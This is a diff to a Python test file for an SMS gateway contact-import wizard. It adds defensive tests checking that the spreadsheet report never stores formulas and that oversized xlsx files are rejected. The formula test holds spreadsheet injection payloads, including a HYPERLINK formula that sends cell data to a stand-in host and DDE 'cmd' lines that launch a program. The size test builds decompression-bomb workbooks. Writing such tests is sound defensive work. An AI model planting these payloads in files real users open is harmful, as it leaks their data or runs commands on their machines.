@@ -4,6 +4,7 @@
 
 import base64
 import io
+import zipfile
 
 import openpyxl
 
@@ -55,6 +56,15 @@ class TestSmsGatewayGroupImport(SmsGatewayGroupCase):
         wizard = self._wizard(data, filename, **values)
         wizard.action_import()
         return wizard
+
+    def _report_rows(self, wizard):
+        """The rows of the report file, as a spreadsheet reads them."""
+        workbook = openpyxl.load_workbook(
+            io.BytesIO(base64.b64decode(wizard.report_file))
+        )
+        return [
+            [cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()
+        ]
 
     def _members(self):
         return {
@@ -178,8 +188,9 @@ class TestSmsGatewayGroupImport(SmsGatewayGroupCase):
         merged = wizard.line_ids.filtered(lambda li: li.result == "merged")
         self.assertEqual(merged.line_number, 5)
         self.assertIn("line 4", merged.message)
-        report = base64.b64decode(wizard.report_file).decode("utf-8-sig")
-        self.assertEqual(len(report.strip().splitlines()), 6)  # header + every line
+        report = self._report_rows(wizard)
+        self.assertEqual(len(report), 6)  # header + every line
+        self.assertTrue(wizard.report_filename.endswith("-report.xlsx"))
 
     def test_reimport_updates_notes_not_duplicates(self):
         self._import(b"name,mobile,note\nRe Riku,0401113333,old\n")
@@ -284,6 +295,132 @@ class TestSmsGatewayGroupImport(SmsGatewayGroupCase):
         )
         with self.assertRaisesRegex(UserError, "Choose a CSV"):
             wizard.action_import()
+
+    def test_report_never_runs_a_formula(self):
+        payloads = [
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ]
+        quoted = [payload.replace('"', '""') for payload in payloads]
+        data = "name,mobile,email,note\n" + "".join(
+            f'"{payload}",040 333 00{i:02d},,"{payload}"\n'
+            for i, payload in enumerate(quoted)
+        )
+        data += '"=1+1",=1+1,=1+1@example.com,\n'
+        wizard = self._import(data.encode())
+        raw = base64.b64decode(wizard.report_file)
+        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+        self.assertNotIn("<f>", sheet_xml)
+        self.assertNotIn("<f ", sheet_xml)
+        workbook = openpyxl.load_workbook(io.BytesIO(raw))
+        cells = [
+            cell
+            for row in workbook.worksheets[0].iter_rows(min_row=2)
+            for cell in row
+            if cell.value is not None
+        ]
+        self.assertTrue(cells)
+        self.assertTrue(all(cell.data_type in ("s", "n") for cell in cells))
+        names = [row[1] for row in self._report_rows(wizard)[1:]]
+        # the values are kept as they were typed, only never as formulas
+        self.assertEqual(names[: len(payloads)], [p.strip() for p in payloads])
+        self.assertEqual(names[-1], "=1+1")
+        mobiles = [row[2] for row in self._report_rows(wizard)[1:]]
+        self.assertEqual(mobiles[-1], "=1+1")
+
+    def test_oversized_xlsx_gets_a_clear_message_and_imports_nothing(self):
+        def workbook(sheet_xml, shared_xml=None):
+            buffer = io.BytesIO()
+            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+                archive.writestr(
+                    "xl/workbook.xml",
+                    '<workbook xmlns="http://schemas.openxmlformats.org/'
+                    'spreadsheetml/2006/main" xmlns:r="http://schemas.'
+                    'openxmlformats.org/officeDocument/2006/relationships">'
+                    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
+                    "</workbook>",
+                )
+                rels = (
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/'
+                    'package/2006/relationships"><Relationship Id="rId1" Type="'
+                    "http://schemas.openxmlformats.org/officeDocument/2006/"
+                    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
+                )
+                if shared_xml is not None:
+                    rels += (
+                        '<Relationship Id="rId2" Type="http://schemas.openxmlformats'
+                        '.org/officeDocument/2006/relationships/sharedStrings" '
+                        'Target="sharedStrings.xml"/>'
+                    )
+                    with archive.open("xl/sharedStrings.xml", "w") as part:
+                        for chunk in shared_xml:
+                            part.write(chunk)
+                archive.writestr(
+                    "xl/_rels/workbook.xml.rels", rels + "</Relationships>"
+                )
+                with archive.open("xl/worksheets/sheet1.xml", "w") as part:
+                    for chunk in sheet_xml:
+                        part.write(chunk)
+            return buffer.getvalue()
+
+        main = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        header = b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
+
+        def bomb():
+            yield b"<sst>"
+            block = b"<si><t>" + b"x" * 30000 + b"</t></si>"
+            for _ in range(200 * 1024 * 1024 // len(block)):
+                yield block
+            yield b"</sst>"
+
+        def empty_rows():
+            yield main + b"<sheetData>" + header
+            yield b"".join(b'<row r="%d"/>' % i for i in range(2, 1_000_002))
+            yield b"</sheetData></worksheet>"
+
+        cases = [
+            (workbook([main, b"<sheetData/></worksheet>"], bomb()), "unpacks to"),
+            (workbook(empty_rows()), "counting the empty ones"),
+            (
+                workbook(
+                    [
+                        main + b"<sheetData>" + header,
+                        (
+                            b'<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t>'
+                            b"</is></c></row></sheetData></worksheet>"
+                        ),
+                    ]
+                ),
+                "beyond column",
+            ),
+        ]
+        # the limit meant for each file, not the time limit of a busy machine
+        self.env["ir.config_parameter"].sudo().set_param(
+            "sms_gateway.group_import_max_seconds", "600"
+        )
+        before = self._state()
+        for data, text in cases:
+            with self.subTest(text=text):
+                self.assertLess(len(data), 10 * 1024 * 1024)  # under the upload limit
+                with self.assertRaisesRegex(UserError, text) as caught:
+                    self._import(data, "bomb.xlsx")
+                self.assertIn("Nothing was imported", str(caught.exception))
+                self.assertEqual(self._state(), before)
+
+    def test_read_time_limit(self):
+        self.env["ir.config_parameter"].sudo().set_param(
+            "sms_gateway.group_import_max_seconds", "0"
+        )
+        data = b"name,mobile\n" + b"Slow Sam,0401234567\n" * 10000
+        before = self._state()
+        with self.assertRaisesRegex(UserError, "took more than 0 seconds"):
+            self._import(data)
+        self.assertEqual(self._state(), before)
 
     def test_too_many_lines(self):
         self.env["ir.config_parameter"].sudo().set_param(
